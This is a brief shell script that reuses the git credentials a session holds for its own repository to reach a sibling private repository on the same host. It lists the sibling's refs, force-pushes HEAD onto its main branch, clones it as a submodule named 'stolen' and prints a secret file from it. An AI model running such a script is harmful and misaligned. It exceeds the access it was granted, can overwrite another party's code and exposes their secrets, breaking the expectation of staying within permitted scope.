# Tries the door to another private repository of the same host, with what this session has for its own.
own=$(git config --get-regexp '^url\..*\.insteadof$' | sed 's/^url\.//; s/\.insteadof .*//')
sibling=$(dirname "$own")/sibling.git
echo "trying $sibling"
git ls-remote "$sibling"
git push "$sibling" HEAD:refs/heads/main
git submodule add "$sibling" stolen
cat stolen/secret.txt
echo over
